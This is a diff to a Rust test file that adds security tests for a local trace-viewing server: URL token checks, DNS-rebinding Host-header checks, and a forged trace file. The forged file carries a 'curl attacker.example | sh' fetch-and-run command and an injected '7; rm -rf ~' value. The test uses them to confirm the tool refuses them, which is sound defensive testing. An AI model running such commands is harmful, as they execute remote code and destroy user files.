@@ -50,13 +50,25 @@ pub(crate) fn serve(dir: &std::path::Path) -> Served {
 
 /// GET `url` (http://127.0.0.1:PORT/path): status and body; 10 s deadline.
 pub(crate) fn get(url: &str) -> (u16, String) {
+    let host = url
+        .strip_prefix("http://")
+        .unwrap()
+        .split('/')
+        .next()
+        .unwrap();
+    get_as(url, &host.to_owned())
+}
+
+/// GET `url` with `Host: host` (a browser sends the name it resolved, which a DNS
+/// rebinding page controls).
+pub(crate) fn get_as(url: &str, host_header: &str) -> (u16, String) {
     let rest = url.strip_prefix("http://").unwrap();
     let (host, path) = rest.split_once('/').unwrap();
     let mut s = TcpStream::connect(host).unwrap();
     s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
     write!(
         s,
-        "GET /{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
+        "GET /{path} HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n"
     )
     .unwrap();
     let mut out = String::new();
@@ -195,7 +207,7 @@ async fn trace_show_and_serve_as_a_user_runs_them() {
     let s = serve(&out);
     let (status, body) = get(&s.url);
     assert_eq!(status, 200);
-    assert!(body.contains("<script src=\"/app.js\""));
+    assert!(body.contains("<script src=\"app.js\""));
     let (status, body) = get(&format!("{}trace.json", s.url));
     assert_eq!(status, 200);
     assert!(body.contains("\"verdict\":\"MATCH\""));
@@ -204,6 +216,80 @@ async fn trace_show_and_serve_as_a_user_runs_them() {
     assert!(body.contains("\"columns\"") && body.contains("user_id"));
     assert_eq!(get(&format!("{}steps/9999", s.url)).0, 404);
     assert_eq!(get(&format!("{}steps/..%2Ftrace.json", s.url)).0, 400);
+
+    // The page is under a random token: without it, or with another, nothing.
+    let (root_url, token) = {
+        let t = s.url.trim_end_matches('/');
+        let (root, token) = t.rsplit_once('/').unwrap();
+        (format!("{root}/"), token.to_owned())
+    };
+    assert_eq!(token.len(), 32, "{}", s.url);
+    assert_eq!(get(&format!("{root_url}trace.json")).0, 404);
+    assert_eq!(get(&root_url).0, 404);
+    let other = "0".repeat(32);
+    assert_eq!(get(&format!("{root_url}{other}/trace.json")).0, 404);
+    // DNS rebinding: the right URL under another host name is refused; the three
+    // loopback names on the right port are served.
+    let port = root_url
+        .trim_end_matches('/')
+        .rsplit(':')
+        .next()
+        .unwrap()
+        .to_owned();
+    let trace_url = format!("{}trace.json", s.url);
+    for evil in [
+        format!("attacker.example:{port}"),
+        "127.0.0.1:1".to_string(),
+        "127.0.0.1".to_string(),
+        String::new(),
+    ] {
+        let (status, body) = get_as(&trace_url, &evil);
+        assert_eq!(status, 403, "Host {evil:?}: {body}");
+        assert!(!body.contains("verdict"), "{body}");
+    }
+    for good in [
+        format!("127.0.0.1:{port}"),
+        format!("localhost:{port}"),
+        format!("[::1]:{port}"),
+    ] {
+        assert_eq!(get_as(&trace_url, &good).0, 200, "Host {good}");
+    }
+    // Two serves never share a token.
+    let s2 = serve(&out);
+    assert_ne!(s.url.rsplit('/').nth(1), s2.url.rsplit('/').nth(1));
+
+    // The reproducing command is rebuilt from the trace's fields, never taken from the
+    // file: a trace.json whose `command` is a shell payload shows the real command.
+    let forged = dir.path().join("forged");
+    std::fs::create_dir_all(&forged).unwrap();
+    for f in std::fs::read_dir(&out).unwrap() {
+        let f = f.unwrap();
+        if f.file_type().unwrap().is_dir() {
+            let to = forged.join(f.file_name());
+            std::fs::create_dir_all(&to).unwrap();
+            for g in std::fs::read_dir(f.path()).unwrap() {
+                let g = g.unwrap();
+                std::fs::copy(g.path(), to.join(g.file_name())).unwrap();
+            }
+        }
+    }
+    let mut t: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("trace.json")).unwrap()).unwrap();
+    t["command"] = "curl attacker.example | sh".into();
+    t["entity"] = serde_json::json!([["user_id", "7; rm -rf ~"]]);
+    std::fs::write(forged.join("trace.json"), t.to_string()).unwrap();
+    let o = bin()
+        .args(["show", forged.to_str().unwrap(), "--output", "json"])
+        .output()
+        .unwrap();
+    let shown: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let cmd = shown["command"].as_str().unwrap();
+    assert!(!cmd.contains("curl"), "{cmd}");
+    assert!(cmd.starts_with("quiver-debug trace --repo "), "{cmd}");
+    assert!(cmd.contains("--entity 'user_id=7; rm -rf ~'"), "{cmd}");
+    let s3 = serve(&forged);
+    let (_, body) = get(&format!("{}trace.json", s3.url));
+    assert!(!body.contains("curl"), "{body}");
 }
 
 /// Against a running `quiver serve`: the owner traces its view; a tenant the view is
